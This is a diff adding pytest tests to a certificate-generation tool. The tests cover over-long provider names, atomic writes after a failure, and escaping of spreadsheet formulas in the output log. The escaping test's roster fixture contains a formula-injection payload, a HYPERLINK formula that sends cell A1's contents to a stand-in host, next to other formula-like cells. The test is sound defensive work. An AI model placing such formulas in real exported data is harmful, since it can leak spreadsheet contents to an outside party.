@@ -434,3 +434,64 @@ def test_a_part_gives_back_its_pages_own_streams_and_their_structure() -> None:
         ("P", [1]),
     ]
     assert part.shared in part.common() and part.box.startswith(b"/MediaBox [")
+
+
+# -- failures leave the last set ---------------------------------------------------------------
+
+
+def _files(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
+
+
+def test_a_provider_too_long_for_the_page_is_an_error_at_its_kit_and_nothing_is_written(
+    outline: Path, kit: Path, tmp_path: Path
+) -> None:
+    provider = kit / "provider.yml"
+    long_name = "The Interdisciplinary Institute for Continuing Education in Counseling " * 3
+    text = provider.read_text().replace(
+        "name: Northwind Counseling Institute", f"name: {long_name}"
+    )
+    camft = "    credit_type: clinical\n  - body: CAMFT\n    number: '1000042'\n"
+    provider.write_text(text.replace("    credit_type: clinical\n", camft))
+    out = tmp_path / "out"
+    result = _run(str(outline), str(ROSTERS / "mixed.csv"), "--brand", str(kit), "--out", str(out))
+    assert result.exit_code == 1  # 70, an internal error, before
+    assert f"error: {provider}: approvals: expected the approval statements to fit" in result.stderr
+    assert "shorten the provider's name" in result.stderr
+    assert not out.exists() and not list(tmp_path.glob(".out.*"))
+
+
+def test_a_run_that_fails_writing_keeps_the_last_set_whole(
+    outline: Path, kit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out = tmp_path / "out"
+    assert _run(str(outline), str(ROSTERS / "mixed.csv"), "--brand", str(kit), "--out", str(out))
+    before = _files(out)
+
+    def full(*args: object) -> None:
+        raise certificates.WriteError(certificates.Problem(str(out / "x"), 0, "could not write"))
+
+    monkeypatch.setattr(certificates, "_write_log", full)  # after every certificate is drawn
+    roster = tmp_path / "other.csv"
+    roster.write_text("Name,E-mail,Minutes,Evaluation\nZoë Berg,zoe@x.org,75,yes\n")
+    result = _run(str(outline), str(roster), "--brand", str(kit), "--out", str(out))
+    assert result.exit_code == 1 and "error: " in result.stderr  # an internal error before
+    assert _files(out) == before  # Zoë's certificate was left beside the old log and PDF
+    assert not list(tmp_path.glob(".out.*"))
+
+
+def test_log_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
+    outline: Path, kit: Path, tmp_path: Path
+) -> None:
+    roster, out = tmp_path / "roster.csv", tmp_path / "out"
+    roster.write_text(
+        "Name,E-mail,License,Minutes,Evaluation\n"
+        '"=HYPERLINK(""http://x.example/?""&A1,""Ana"")",ana@x.org,@SUM(1),75,yes\n'
+        "Bo Lind,bo@x.org,-2+3,75,yes\n"
+    )
+    _run(str(outline), str(roster), "--brand", str(kit), "--out", str(out))
+    rows = list(csv.DictReader(io.StringIO((out / "certificates.csv").read_text("utf-8-sig"))))
+    assert [(r["name"], r["license"]) for r in rows] == [
+        ('\'=HYPERLINK("http://x.example/?"&A1,"Ana")', "'@SUM(1)"),
+        ("Bo Lind", "'-2+3"),
+    ]
